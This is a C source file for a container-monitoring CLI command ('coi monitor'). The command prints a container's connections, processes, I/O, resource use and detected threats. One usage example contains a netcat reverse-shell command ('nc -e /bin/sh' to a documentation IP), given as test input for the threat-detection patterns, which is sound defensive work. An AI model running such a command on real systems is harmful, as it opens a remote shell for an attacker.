/* SPDX-License-Identifier: GPL-2.0-or-later */
/* One look at a container (session/look.h), or one every few seconds. */
#include <errno.h>
#include <inttypes.h>
#include <stdio.h>
#include <string.h>

#include "base/json.h"
#include "base/log.h"
#include "base/mem.h"
#include "base/table.h"
#include "cli/again.h"
#include "cli/app.h"
#include "cli/commands.h"
#include "cli/output.h"
#include "cli/resolve.h"
#include "session/look.h"

#define PROCESSES_SHOWN 20
#define CONNECTIONS_SHOWN 20

struct monitor_args {
	int watch;
};

static int monitor_check(struct cli *cli, void *args, struct err *err) {
	const struct monitor_args *a = args;

	if (a->watch && cli->json)
		return err_set(err, ERR_USAGE, -EINVAL,
		               "--watch and --format json exclude each other");
	return 0;
}

static const char *text(const json_t *j, const char *key) {
	return json_get_str(j, key, "");
}

static double real(const json_t *j, const char *key) {
	return json_number_value(json_object_get(j, key));
}

static void show_network(const json_t *net) {
	static const char *const titles[] = { "PROTOCOL", "LOCAL", "REMOTE", "STATE", "", NULL };
	auto_table struct table *t = table_new(titles);
	const json_t *list = json_object_get(net, "connections"), *j;
	size_t i;

	output_line("Network: %" PRIi64 " active, %" PRIi64 " suspicious",
	            json_get_int(net, "active_connections", 0),
	            json_get_int(net, "suspicious_count", 0));
	json_array_foreach(list, i, j) {
		const char *cells[] = { text(j, "protocol"), text(j, "local_addr"),
			                text(j, "remote_addr"), text(j, "state"),
			                text(j, "suspect_reason") };

		if (i == CONNECTIONS_SHOWN)
			break;
		table_add(t, cells);
	}
	if (json_array_size(list))
		table_print(t, stdout);
	if (json_array_size(list) > CONNECTIONS_SHOWN)
		output_line("and %zu more", json_array_size(list) - CONNECTIONS_SHOWN);
}

static void show_processes(const json_t *processes) {
	static const char *const titles[] = { "PID", "USER", "COMMAND", NULL };
	auto_table struct table *t = table_new(titles);
	const json_t *list = json_object_get(processes, "processes"), *j;
	size_t i;

	output_line("\nProcesses: %" PRIi64, json_get_int(processes, "total_count", 0));
	json_array_foreach(list, i, j) {
		autofree char *pid = xasprintf("%" PRIi64, json_get_int(j, "pid", 0));
		autofree char *command = xasprintf("%.60s", text(j, "command"));
		const char *cells[] = { pid, text(j, "user"), command };

		if (i == PROCESSES_SHOWN)
			break;
		table_add(t, cells);
	}
	table_print(t, stdout);
	if (json_array_size(list) > PROCESSES_SHOWN)
		output_line("and %zu more", json_array_size(list) - PROCESSES_SHOWN);
}

static void show_amounts(const json_t *all) {
	const json_t *fs = json_object_get(all, "filesystem"),
		     *r = json_object_get(all, "resources");

	output_line("\nFiles: %.1f MB read (%.1f MB/s), %.1f MB written (%.1f MB/s)",
	            real(fs, "total_read_mb"), real(fs, "read_rate_mb_per_sec"),
	            real(fs, "total_write_mb"), real(fs, "write_rate_mb_per_sec"));
	output_line("Resources: %.1f s of CPU, %.1f MB of memory%s", real(r, "cpu_time_seconds"),
	            real(r, "memory_mb"),
	            json_object_get(r, "memory_limit_mb") ? " (limited)" : "");
}

static void show_threats(const json_t *threats) {
	const json_t *j;
	size_t i;

	output_line("\nThreats: %zu", json_array_size(threats));
	json_array_foreach(threats, i, j) {
		const json_t *process = json_object_get(json_object_get(j, "evidence"), "process");

		output_line("  %s: %s: %s: %.200s", text(j, "level"), text(j, "title"),
			    text(j, "description"), text(process, "command"));
	}
}

static int look(struct cli *cli, const struct container *c, struct err *err) {
	auto_monitoring_plan struct monitoring_plan plan = { 0 };
	json_t *all = NULL;
	const json_t *why;
	size_t i;
	int r;

	monitoring_from_settings(cli->settings, &plan);
	look_at(cli->session, c, &plan, &all);
	if (cli->json) {
		r = json_print(all, 0);
		json_decref(all);
		return r < 0 ? output_lost(r, err) : 0;
	}
	show_network(json_object_get(all, "network"));
	show_processes(json_object_get(all, "processes"));
	show_amounts(all);
	show_threats(json_object_get(all, "threats"));
	json_array_foreach(json_object_get(all, "errors"), i, why) {
		output_line("  not looked at: %s", json_string_value(why));
	}
	json_decref(all);
	return 0;
}

/* Until Ctrl-C, or until the container is no more. */
static int watch(struct cli *cli, struct container *c, int seconds, struct err *err) {
	auto_again struct again a = AGAIN_INIT;
	int r = again_begin(&a, err);

	while (r == 0 && container_is_running(cli->session, c)) {
		again_clear();
		r = look(cli, c, err);
		if (r == 0)
			r = again_footer(seconds, err);
		if (r == 0 && again_told(&a, seconds * 1000))
			break;
	}
	return r;
}

static int monitor_run(struct cli *cli, const void *args, struct err *err) {
	const struct monitor_args *a = args;
	auto_container struct container *c = NULL;
	int r = resolve_meant(cli, app_word(cli, 0), RESOLVE_RUNNING, &c, err);

	if (r < 0)
		return r;
	log_info("Container: %s", c->name);
	return a->watch ? watch(cli, c, a->watch, err) : look(cli, c, err);
}

static const struct cli_argument monitor_arguments[] = {
	{ "container", ARGUMENT_OPTIONAL, COMPLETE_RUNNING,
	  "A running container, or its alias; the workspace's if left out" },
	{ NULL },
};

static const struct cli_option monitor_options[] = {
	{ .name = "watch",
	  CLI_INT(struct monitor_args, watch, "SECONDS"),
	  .int_max = 86400,
	  .help = "Look again so often, until Ctrl-C; 0 looks once" },
	{ .name = NULL },
};

static const struct cli_command *const monitor_children[] = { &cmd_monitor_patterns, NULL };

static const struct cli_example monitor_examples[] = {
	{ "coi monitor", "connections, processes and threats of the workspace's container" },
	{ "coi monitor web --format json | jq .threats", "what looks like an attack just now" },
	{ "coi monitor patterns test 'nc -e /bin/sh 203.0.113.1 80'",
	  "would that be found, and why?" },
	{ NULL },
};

const struct cli_command cmd_monitor = {
	.name = "monitor",
	.group = GROUP_CONTAINER,
	.summary = "look at what a container does just now",
	.description =
		"Its connections, processes, what it uses, and what of that looks like an attack, "
		"also when it is not watched. What has been recorded over time is shown by 'coi "
		"audit'; [monitoring] in the settings has a container watched and acted upon.",
	.arguments = monitor_arguments,
	.options = monitor_options,
	.examples = monitor_examples,
	.children = monitor_children,
	.args_size = sizeof(struct monitor_args),
	.flags = COMMAND_SESSION | COMMAND_CONFIG | COMMAND_FORMAT,
	.check = monitor_check,
	.run = monitor_run,
};
